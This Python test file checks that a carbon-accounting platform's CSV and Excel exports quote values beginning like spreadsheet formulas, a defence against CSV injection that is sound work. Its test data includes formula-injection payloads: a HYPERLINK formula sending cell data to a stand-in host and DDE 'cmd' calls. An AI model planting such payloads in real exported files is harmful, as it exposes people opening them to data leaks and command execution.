"""No spreadsheet formula from uploaded data in any file the platform writes (OWASP CSV
injection): the one neutraliser (contract/exports.py) and every writer that uses it — the API's
CSV and Excel downloads, the targets and inventory Excel reports, the GPC CSV, the ingest error
reports (CSV and Excel), the 205-1 workbook and the CLI's CSV files."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from citycarbon.contract.exports import FORMULA_STARTS, neutralise_formulas, spreadsheet_ready
from citycarbon.contract.inputs import QUARANTINE_SCHEMA
from citycarbon.ingest import excel205, loader
from citycarbon.reports.excel import write_excel, write_gpc_csv
from citycarbon.runs.reports import ReportData
from citycarbon.web.app import table_download

ROOT = Path(__file__).resolve().parents[1]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _xlsx_cells(source: bytes | Path) -> list[openpyxl.cell.Cell]:
    """Every cell of every sheet, read as stored (formulas as formulas)."""
    book = openpyxl.load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source)
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def _assert_no_formula(cells: list[openpyxl.cell.Cell], *attacks: str) -> None:
    """No formula cell, and each attack written as quoted text (Excel keeps a tab or CR in a
    cell as an escape, so the text after it is compared)."""
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell was written"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for attack in attacks:
        tail = attack.lstrip("\t\r")
        assert any(t.startswith("'") and t.endswith(tail) for t in texts), attack


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# ----------------------------------------------------------------------------- the function
@given(
    st.lists(st.one_of(st.text(max_size=12), st.none(), st.floats(allow_nan=False)), max_size=30)
)
def test_text_starting_like_a_formula_is_quoted_and_nothing_else_changes(values):
    frame = pd.DataFrame({"v": pd.Series(values, dtype=object)})
    out = neutralise_formulas(frame)["v"].tolist()
    expected = [
        "'" + v if isinstance(v, str) and v.startswith(FORMULA_STARTS) else v for v in values
    ]
    assert out == expected
    assert frame["v"].tolist() == values  # the input is left as it was


def test_numbers_dates_and_string_columns_keep_their_types():
    frame = pd.DataFrame(
        {
            "n": [-1.5, 2.0],
            "s": pd.array(["=1", None], dtype="string"),
            "t": pd.to_datetime(["2024-01-01 08:00", "2024-01-02 08:00"]).tz_localize(
                "Asia/Shanghai"
            ),
        },
        index=[7, 7],  # duplicate labels: replaced by position
    )
    out = spreadsheet_ready(frame)
    assert out["n"].tolist() == [-1.5, 2.0] and out["s"].dtype == "string"
    assert out["s"].tolist()[0] == "'=1" and out["s"].isna().tolist() == [False, True]
    assert out["t"].dt.tz is None and out["t"].iloc[0] == pd.Timestamp("2024-01-01 00:00")


# ----------------------------------------------------------------------------- the writers
def test_api_csv_and_excel_downloads():
    frame = pd.DataFrame({"value": ATTACKS, "n": range(len(ATTACKS))})
    rows = _csv_rows(table_download(frame, "quarantine", "csv").body.decode("utf-8-sig"))
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS]
    _assert_no_formula(_xlsx_cells(table_download(frame, "quarantine", "xlsx").body), *ATTACKS)


def _report() -> ReportData:
    data = ReportData("targets", "厦门市碳排放双控目标进展报告", "厦门市", "2021-2025", "m")
    data.tables["warnings"] = pd.DataFrame({"message": ATTACKS[:3], "level": ["red"] * 3})
    data.tables["gpc"] = pd.DataFrame({"sector": ATTACKS[3:], "tco2e": [1.0, -2.0, 3.0]})
    data.notes.append(ATTACKS[4])
    return data


def test_report_workbook_to_a_path_and_to_memory(tmp_path):
    path = write_excel(_report(), tmp_path / "r" / "targets.xlsx")
    _assert_no_formula(_xlsx_cells(path), *ATTACKS[:5])
    stream = io.BytesIO()
    assert write_excel(_report(), stream) is stream
    assert _xlsx_cells(stream.getvalue())  # the same workbook, never on disk


def test_gpc_csv(tmp_path):
    text = write_gpc_csv(_report(), tmp_path / "gpc.csv").read_text("utf-8-sig")
    assert "'@SUM(1,1)" in text and "-2.0" in text  # a negative number stays a number


def _quarantine_file(path: Path, values: list[str]) -> Path:
    n = len(values)
    table = pa.table(
        {
            "batch_id": [1] * n,
            "kind": ["energy_monthly"] * n,
            "source_name": ["=evil.csv"] * n,
            "source_row": list(range(2, n + 2)),
            "column": ["fuel"] * n,
            "value": values,
            "reason": ["fuel is unknown"] * n,
            "raw": ['{"fuel": "x"}'] * n,
            "reason_key": [""] * n,
        },
        schema=QUARANTINE_SCHEMA,
    )
    pq.write_table(table, path)
    return path


def test_ingest_error_reports_stream_in_blocks(tmp_path, monkeypatch):
    monkeypatch.setattr(loader, "REPORT_BLOCK_ROWS", 4)  # three blocks of rows
    monkeypatch.setattr(loader, "XLSX_MAX_REPORT_ROWS", 5)
    values = [*ATTACKS, "ok", "天燃气X", "=x", "-"]
    q = _quarantine_file(tmp_path / "q.parquet", values)
    csv_path, xlsx_path = loader.write_reports([q], tmp_path / "reports")
    header, *rows = _csv_rows(csv_path.read_bytes().decode("utf-8"))
    assert header == list(loader.REPORT_COLUMNS.values())
    assert [r[3] for r in rows] == ["'" + v if v.startswith(FORMULA_STARTS) else v for v in values]
    assert {r[0] for r in rows} == {"'=evil.csv"}
    cells = _xlsx_cells(xlsx_path)
    _assert_no_formula(cells, *ATTACKS[:4])
    assert f"... {len(values) - 5} more rows in errors.csv" in {c.value for c in cells}
    empty_csv, _ = loader.write_reports([], tmp_path / "none")
    assert (
        empty_csv.read_bytes().decode("utf-8") == ",".join(loader.REPORT_COLUMNS.values()) + "\r\n"
    )


def test_205_workbook_filled_with_rows(tmp_path):
    rows = pd.DataFrame(
        {
            "enterprise_code": ["=cmd|' /C calc'!A0"],
            "period": ["2024-01-01"],
            "fuel": ["@diesel"],
            "unit": ["t"],
            "consumed_total": [-1.0],
        }
    )
    path = excel205.write_template(tmp_path / "205.xlsx", rows=rows)
    _assert_no_formula(_xlsx_cells(path), "=cmd|' /C calc'!A0", "@diesel")


# ----------------------------------------------------------------------------- the guard
WRITES = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|\.add_worksheet\(|COPY .* TO ")
#: Files that write CSV or spreadsheets without data text: demo inputs (files to ingest, not
#: downloads), a digest of factor values (never a file), the balance workbook (labels from the
#: package's reference tables and numbers only).
NO_DATA_TEXT = {
    "src/citycarbon/demo/generator.py",
    "src/citycarbon/factors/library.py",
    "src/citycarbon/runs/inventory.py",
}


@pytest.mark.parametrize(
    "path",
    sorted(
        str(p.relative_to(ROOT))
        for p in (ROOT / "src" / "citycarbon").rglob("*.py")
        if WRITES.search(p.read_text("utf-8"))
    ),
)
def test_every_writer_of_csv_or_spreadsheets_uses_the_neutraliser(path):
    text = (ROOT / path).read_text("utf-8")
    uses = re.search(r"neutralise_formulas|spreadsheet_ready|write_csv", text)
    assert path in NO_DATA_TEXT or uses, path
